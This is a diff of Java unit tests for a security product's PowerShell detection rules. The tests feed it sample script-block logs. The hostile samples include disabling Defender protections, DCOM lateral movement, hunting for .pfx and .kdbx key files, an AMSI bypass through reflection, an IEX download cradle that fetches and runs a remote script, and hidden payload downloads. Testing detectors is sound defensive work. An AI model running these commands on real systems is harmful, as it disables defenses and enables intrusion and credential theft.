@@ -66,4 +66,59 @@ class PowerShellRulesTest {
         scriptBlock("Import-Module ActiveDirectory; Get-ADUser -Identity jdoe -Properties LastLogonDate"));
     assertThat(benign).allMatch(Set::isEmpty);
   }
+
+  // ---------------------------------------------------------------- round 2 (lines written here)
+
+  private static String block(String script) {
+    return "{\"winlog\":{\"channel\":\"Microsoft-Windows-PowerShell/Operational\",\"event_id\":\"4104\","
+        + "\"provider_name\":\"Microsoft-Windows-PowerShell\",\"computer_name\":\"ws-17.example.org\","
+        + "\"event_data\":{\"ScriptBlockText\":\"" + script.replace("\\", "\\\\").replace("\"", "\\\"") + "\"}}}";
+  }
+
+  @Test
+  void defenderAliasesDcomAndKeyHunting() {
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Set-MpPreference -dioavp $true -drtm $true")))
+        .contains("shield-ps-evasion-003");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("$o=[activator]::CreateInstance([type]::GetTypeFromProgID("
+        + "'ShellWindows','192.0.2.31'));$o.Item().Document.Application.ShellExecute('cmd.exe','/c whoami','',$null,0)")))
+        .contains("shield-ps-lateral-002");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("gci C:\\Users -Recurse -Include *.pfx,*.kdbx -ea 0")))
+        .contains("shield-ps-cred-006");
+  }
+
+  @Test
+  void amsiReachedByWildcardReflection() {
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("$t=[Ref].Assembly.GetTypes()|?{$_.Name -like '*siUtils'};"
+        + "$f=$t.GetFields('NonPublic,Static')|?{$_.Name -like '*Context'};[Runtime.InteropServices.Marshal]::Copy("
+        + "[Int32[]]@(0),0,$f.GetValue($null),1)"))).contains("shield-ps-evasion-008");
+  }
+
+  @Test
+  void ordinaryReflectionAndCertificateListingStayQuiet() {
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Get-ChildItem Cert:\\LocalMachine\\My | Select Subject, NotAfter")))
+        .isEmpty();
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Set-MpPreference -SignatureUpdateInterval 4"))).isEmpty();
+  }
+
+  @Test
+  void installFromTheInternalRepositoryIsQuietButRunningItInMemoryIsNot() {
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Invoke-WebRequest -Uri https://pkg.example.internal/agent.msi "
+        + "-OutFile C:\\Temp\\agent.msi; Start-Process msiexec.exe -ArgumentList '/i C:\\Temp\\agent.msi /qn' -Wait")))
+        .doesNotContain("shield-ps-exec-001");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("IEX (New-Object Net.WebClient).DownloadString("
+        + "'http://10.20.30.40/s.ps1')"))).contains("shield-ps-exec-001");
+  }
+
+  @Test
+  void hiddenDownloadIntoThePublicFolder() {
+    String moduleLog = "{\"Channel\":\"Microsoft-Windows-PowerShell/Operational\",\"EventID\":4103,\"SourceName\":"
+        + "\"Microsoft-Windows-PowerShell\",\"Hostname\":\"ws-17.example.org\",\"Payload\":\"CommandInvocation("
+        + "Start-BitsTransfer): \\\"Start-BitsTransfer\\\" ParameterBinding(Start-BitsTransfer): name=\\\"Source\\\"; "
+        + "value=\\\"https://files.example.net/p.bin\\\"\",\"HostApplication\":\"powershell.exe -nop -win hid -c x\"}";
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, moduleLog)).contains("shield-ps-c2-010");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Invoke-WebRequest http://192.0.2.80/t.zip -OutFile "
+        + "C:\\Users\\Public\\t.zip"))).contains("shield-ps-c2-010");
+    org.assertj.core.api.Assertions.assertThat(ShippedRules.firedAlone(io.cybershield.shield.gateway.triage.logs.LogSource.POWERSHELL, block("Invoke-WebRequest https://www.example.com/report.csv -OutFile "
+        + "C:\\Reports\\report.csv"))).doesNotContain("shield-ps-c2-010");
+  }
 }
